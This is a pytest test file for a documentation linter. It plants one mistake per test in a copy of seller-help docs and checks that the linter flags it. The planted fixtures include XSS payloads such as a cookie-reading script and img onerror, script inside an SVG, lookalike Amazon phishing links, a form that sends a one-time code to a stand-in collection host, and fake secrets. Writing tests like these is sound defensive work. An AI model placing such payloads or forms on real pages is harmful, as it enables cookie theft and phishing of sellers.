"""Each class of mistake of the publishing-safety issue, planted once in a copy
of the real docs: `make check` must name the file, the line and the rule code
(findings the copy already had are ignored), and never show a traceback.
Each test asks for the rule it plants a mistake for; the huge-page test and the
command-line test run every rule on the planted mistake."""

from __future__ import annotations

import os
import subprocess

import pytest
from kb.build.prebuild import problems as prebuild_problems
from kb.site.model import MAX_LINE_CHARS, MAX_PAGE_BYTES
from support.commands import KB, kb_env

ZH, EN = "docs/zh/sign-in/reset-password.md", "docs/en/sign-in/reset-password.md"
ABBR_ZH = "docs/includes/abbreviations.zh.md"


def test_script_in_the_abbreviations_include(repo):
    line = repo.append(ABBR_ZH, "<script>alert(document.cookie)</script>\n")
    assert (ABBR_ZH, line, "LP006") in repo.new("LP006")


def test_entity_encoded_markup_in_an_abbreviation(repo):
    line = repo.append(ABBR_ZH, "*[PIN]: 个人识别码 &lt;img src=x onerror=alert(1)&gt;\n")
    assert (ABBR_ZH, line, "HT003") in repo.new("HT003")


def test_entity_encoded_markup_in_a_title_attribute(repo):
    line = repo.append(EN, '<abbr title="&lt;img src=x onerror=alert(1)&gt;">2SV</abbr>\n')
    assert (EN, line, "HT003") in repo.new("HT003")


@pytest.mark.parametrize(
    ("markdown", "code"),
    [
        ("[Sign in](https://sellercentral.amaz0n.com/)", "LP007"),
        ("[Sign in](https://sellercentral.arnazon.com/)", "LP007"),
        ("[Help](https://bit.ly/3xYzAbc)", "LP008"),
        ("[sellercentral.amazon.com](https://sellercentral.amazon.com.account-check.io/)", "LP009"),
        ('<form action="https://collect.example/login"><input name="otp"></form>', "HT002"),
        ('<meta http-equiv="refresh" content="0; url=https://example.com/">', "HT001"),
        ('<link rel="stylesheet" href="https://cdn.example.com/x.css">', "HT001"),
        ("<style>.md-content { display: none }</style>", "HT001"),
    ],
)
def test_phishing_shaped_and_active_content(repo, markdown, code):
    line = repo.append(EN, markdown + "\n")
    assert (EN, line, code) in repo.new(code)


def test_svg_carrying_script(repo):
    rel = "docs/en/assets/diagram.svg"
    repo.write(rel, '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    assert (rel, 1, "HT004") in repo.new("HT004")


def test_symlink_under_docs(repo, tmp_path):
    (tmp_path / "outside.txt").write_text("private", encoding="utf-8")
    os.symlink(tmp_path / "outside.txt", repo.path / "docs" / "en" / "notes.txt")
    assert ("docs/en/notes.txt", 0, "HT005") in repo.new("HT005")


@pytest.mark.parametrize(
    ("rel", "old", "new", "code"),
    [
        (
            "docs/zh/inform-act/index.md",
            "- **生效日期**：2023 年 6 月 27 日[",
            "- **生效日期**：2023 年 6 月 28 日[",
            "DR001",
        ),
        (
            "docs/zh/inform-act/who-must-verify.md",
            "销售额达到 5,000 美元以上",
            "销售额达到 20,000 美元以上",
            "DR002",
        ),
        (
            "docs/zh/inform-act/deadlines-and-suspension.md",
            "收到平台通知后 10 天内",
            "收到平台通知后 3 天内",
            "DR003",
        ),
        (
            EN,
            "1. Look in your spam, junk and promotions folders.",
            "1. Look in your spam, junk and promotions folders.\n1. Wait ten minutes.",
            "DR004",
        ),
        (
            EN,
            "1. Look in your spam, junk and promotions folders.",
            "1. 查看垃圾邮件文件夹，然后等十分钟。",
            "DR005",
        ),
    ],
)
def test_language_drift(repo, rel, old, new, code):
    line = repo.replace(rel, old, new)
    found = repo.new(code)
    if code == "DR004":
        # Reported at the first item beyond the other language's count: which
        # item was added cannot be known, only that this section has one more.
        assert [(p, c) for p, n, c in found if n > line] == [(rel, code)]
    else:
        assert (rel, line, code) in found


def test_future_last_reviewed(repo):
    text = repo.text(EN)
    old = next(row for row in text.split("\n") if row.startswith("last_reviewed:"))
    line = repo.replace(EN, old, "last_reviewed: 2099-01-01")
    assert (EN, line, "FR003") in repo.new("FR003")


@pytest.mark.parametrize(
    ("markdown", "offset", "code"),
    [
        ("<details>\n<summary>More</summary>\n\nText.\n", 0, "MD001"),
        ('!!! warning "Careful"\nNever share the code.\n', 1, "MD002"),
        ("| A | B |\n| --- | --- |\n| 1 | 2 | 3 |\n", 2, "MD003"),
        ("Held for three days.[^hold]\n", 0, "MD004"),
        ("See the [help page][nowhere].\n", 0, "MD005"),
    ],
)
def test_markdown_structure(repo, markdown, offset, code):
    line = repo.append(EN, markdown)
    assert (EN, line + offset, code) in repo.new(code)


def test_scaffold_placeholder_committed(repo):
    from kb.scaffold import INTRO

    line = repo.append(ZH, INTRO["zh"] + "\n")
    assert (ZH, line, "PL001") in repo.new("PL001")


@pytest.mark.parametrize(
    "secret",
    [
        "ghp_" + "Zx9" * 12,
        "client_secret: amzn1.oa2-cs.v1." + "9f" * 32,
        "password: Summer2026!",
        "AKIA" + "Q" * 16,
    ],
)
def test_pasted_secret(repo, secret):
    line = repo.append(EN, f"```text\n{secret}\n```\n")
    assert (EN, line + 1, "SC001") in repo.new("SC001")


def test_huge_page_and_pathological_line(repo):
    repo.append(
        EN, ("Filler text for a page pasted twice. " * 40 + "\n") * (MAX_PAGE_BYTES // 1400)
    )
    nested = "<span><b>" * (MAX_LINE_CHARS // 9 + 10) + "x"
    line = repo.append(ZH, f"文字 {nested}\n")
    found = repo.new()
    assert (EN, 1, "SZ001") in found
    assert (ZH, line, "SZ002") in found


def test_impossible_date_fails_check_and_build_with_one_line(repo):
    text = repo.text(EN)
    old = next(row for row in text.split("\n") if row.startswith("last_reviewed:"))
    line = repo.replace(EN, old, "last_reviewed: 2026-02-30")
    assert (EN, line, "FM006") in repo.new("FM006")
    assert prebuild_problems(repo.path) == [
        f"{EN}:{line}: FM006 front matter holds a value that is not real "
        "(day is out of range for month); MkDocs would drop the whole front matter"
    ]


def test_the_command_line_shows_file_line_code_and_no_traceback(repo):
    line = repo.append(ABBR_ZH, "<script>alert(1)</script>\n")
    result = subprocess.run(
        [*KB, "check", "--root", str(repo.path)],
        capture_output=True,
        text=True,
        env=kb_env(),
    )
    assert result.returncode == 1
    assert f"{ABBR_ZH}:{line}:1: LP006 error: " in result.stdout
    assert "Traceback" not in result.stdout + result.stderr
